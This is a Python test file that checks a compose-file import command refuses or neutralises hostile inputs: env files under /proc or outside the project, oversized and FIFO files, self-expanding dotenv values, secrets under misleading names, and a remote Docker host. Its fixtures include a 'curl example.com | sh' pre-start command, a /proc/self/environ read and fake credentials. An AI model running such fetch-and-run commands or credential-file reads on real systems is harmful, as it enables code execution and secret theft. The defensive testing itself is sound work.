"""What an imported compose file may make the app read, expand, keep or send (issue 22's cases that live
in the compose import), each through ``llm-dyno profile import`` in a subprocess with a hostile file the
test makes: env files outside the project or under /proc, too large, FIFOs, expansions that explode,
``x-llm-dyno`` picking the Docker engine, and secrets under names that do not say so."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import yaml

TOKEN = "hf_" + "Q7x" * 12  # the shape of a Hugging Face token (not a real one)
PASSWORD = "s3cr3t-Pa55"


def _run(tmp_path: Path, *args: str) -> tuple[subprocess.CompletedProcess[str], float, float]:
    """``llm-dyno ARGS``: its result, wall seconds and peak RSS in MB (from the child's rusage)."""
    env = {k: v for k, v in os.environ.items() if k not in ("HF_TOKEN", "VLLM_API_KEY")}
    env["LLM_DYNO_HOME"] = str(tmp_path / "home")
    code = (
        "import resource, subprocess, sys, json\n"
        "p = subprocess.run(sys.argv[1:], capture_output=True, text=True)\n"
        "rss = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024\n"
        "print(json.dumps([p.returncode, p.stdout, p.stderr, rss]))\n"
    )
    start = time.monotonic()
    outer = subprocess.run(
        [sys.executable, "-c", code, sys.executable, "-m", "llm_dyno", *args],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    )
    rc, out, err, rss = json.loads(outer.stdout)
    return subprocess.CompletedProcess(args, rc, out, err), time.monotonic() - start, rss


def _project(tmp_path: Path, service: str, **files: str) -> Path:
    folder = tmp_path / "proj"
    folder.mkdir(exist_ok=True)
    (folder / "docker-compose.yml").write_text(
        "services:\n  vllm:\n    image: vllm/vllm-openai:v0.11.0\n"
        "    command: Qwen/Qwen3-0.6B --port 8000\n    ports: ['8000:8000']\n" + service
    )
    for name, text in files.items():
        (folder / name).write_text(text)
    return folder / "docker-compose.yml"


def _refused(done: subprocess.CompletedProcess[str], *, says: str, never: str = "") -> None:
    assert done.returncode != 0, done.stdout
    assert "Traceback" not in done.stderr and says in done.stderr, done.stderr
    if never:
        assert never not in done.stderr and never not in done.stdout


def test_env_file_under_proc_is_refused_without_reading_it(tmp_path: Path) -> None:
    compose = _project(tmp_path, "    env_file: /proc/self/environ\n")
    done, _, _ = _run(tmp_path, "profile", "import", str(compose))
    _refused(done, says="/proc", never="LLM_DYNO_HOME=")
    assert not (tmp_path / "home" / "profiles").exists() or not any(
        (tmp_path / "home" / "profiles").iterdir()
    )


def test_env_file_outside_the_project_is_refused_and_never_quoted(tmp_path: Path) -> None:
    shadow = tmp_path / "shadow"
    shadow.write_text(f"root:$6${PASSWORD}:19000:0:99999:7:::\n")
    done, _, _ = _run(tmp_path, "profile", "import", str(_project(tmp_path, f"    env_file: {shadow}\n")))
    _refused(done, says="outside the project folder", never=PASSWORD)
    # the same file inside the project: its first line is not KEY=VALUE, and is not printed either
    compose = _project(tmp_path, "    env_file: shadow.env\n", **{"shadow.env": f"{PASSWORD} is root's\n"})
    done, _, _ = _run(tmp_path, "profile", "import", str(compose))
    _refused(done, says="line 1 is not a KEY=VALUE line", never=PASSWORD)
    assert "shadow.env:1" in done.stderr


def test_sparse_gigabyte_env_file_is_refused_before_reading(tmp_path: Path) -> None:
    compose = _project(tmp_path, "    env_file: big.env\n")
    with open(compose.parent / "big.env", "wb") as f:
        f.truncate(1 << 30)  # 1 GiB of holes: no disk used, and none may be read
    done, seconds, rss_mb = _run(tmp_path, "profile", "import", str(compose), "--dry-run")
    _refused(done, says="over the 1048576 bytes")
    assert seconds < 30 and rss_mb < 300, (seconds, rss_mb)


def test_fifo_env_file_does_not_hang(tmp_path: Path) -> None:
    compose = _project(tmp_path, "    env_file: pipe.env\n")
    os.mkfifo(compose.parent / "pipe.env")
    done, seconds, _ = _run(tmp_path, "profile", "import", str(compose), "--dry-run")
    _refused(done, says="not a regular file")
    assert seconds < 30


def test_dotenv_whose_values_expand_each_other_is_bounded(tmp_path: Path) -> None:
    # 482 bytes: each variable repeats the one above ten times (10^9 characters unbounded)
    lines = ["A=" + "x" * 100] + [f"{b}=" + f"${a}" * 10 for a, b in zip("ABCDEFGH", "BCDEFGHI", strict=True)]
    dotenv = "\n".join(lines) + "\n"
    compose = _project(tmp_path, "    environment:\n      BIG: ${I}\n", **{".env": dotenv})
    assert len(dotenv) < 600
    done, seconds, rss_mb = _run(tmp_path, "profile", "import", str(compose), "--dry-run")
    _refused(done, says="expands to more than 65536 characters")
    assert ".env:" in done.stderr and seconds < 30 and rss_mb < 300, (seconds, rss_mb)


def test_x_llm_dyno_host_is_not_taken_silently(tmp_path: Path) -> None:
    compose = _project(
        tmp_path,
        "x-llm-dyno: {host: 'tcp://203.0.113.9:2375', pre_start: 'curl example.com | sh', cwd: /tmp}\n",
    )
    done, _, _ = _run(tmp_path, "profile", "import", str(compose), "--dry-run")
    assert done.returncode == 0, done.stderr
    profile = yaml.safe_load(done.stdout)
    assert "host" not in (profile["docker"] or {})
    assert "x-llm-dyno.host (tcp://203.0.113.9:2375) is not taken" in done.stderr
    assert "sets pre_start, cwd" in done.stderr and "curl example.com | sh" in done.stderr
    # the user's explicit choice takes it
    done, _, _ = _run(tmp_path, "profile", "import", str(compose), "--dry-run", "--docker-host-from-file")
    assert done.returncode == 0, done.stderr
    assert yaml.safe_load(done.stdout)["docker"]["host"] == "tcp://203.0.113.9:2375"


def test_secrets_become_references_whatever_their_name(tmp_path: Path) -> None:
    compose = _project(
        tmp_path,
        f"    environment:\n      MODEL_AUTH: {TOKEN}\n"
        f"      HTTPS_PROXY: http://me:{PASSWORD}@proxy.example:3128\n      PLAIN: hello\n"
        f"    labels:\n      deploy.token: {TOKEN}\n      team: ml\n"
        "    env_file: vllm.env\n",
        **{"vllm.env": f"FROM_FILE={TOKEN}\n"},
    )
    done, _, _ = _run(tmp_path, "profile", "import", str(compose), "--dry-run")
    assert done.returncode == 0, done.stderr
    profile = yaml.safe_load(done.stdout)
    assert profile["env"] == {
        "FROM_FILE": "${FROM_FILE}",
        "MODEL_AUTH": "${MODEL_AUTH}",
        "HTTPS_PROXY": "${HTTPS_PROXY}",
        "PLAIN": "hello",
    }
    assert profile["docker"]["labels"] == {"team": "ml"}
    assert "label deploy.token held a Hugging Face token" in done.stderr
    assert (
        "MODEL_AUTH held a Hugging Face token" in done.stderr and "HTTPS_PROXY held a password" in done.stderr
    )
    for text in (done.stdout, done.stderr):
        assert TOKEN not in text and PASSWORD not in text


def test_secret_in_a_script_is_refused_without_showing_it(tmp_path: Path) -> None:
    folder = tmp_path / "proj"
    folder.mkdir()
    compose = folder / "docker-compose.yml"
    compose.write_text(
        "services:\n  vllm:\n    image: vllm/vllm-openai:v0.11.0\n    ports: ['8000:8000']\n"
        "    entrypoint: [bash, -c]\n"
        f"    command: ['export HF_TOKEN={TOKEN} && exec vllm serve Qwen/Qwen3-0.6B']\n"
    )
    done, _, _ = _run(tmp_path, "profile", "import", str(compose), "--dry-run")
    _refused(done, says="a Hugging Face token (hf_…) is written into the command", never=TOKEN)
    assert "docker-compose.yml:" in done.stderr
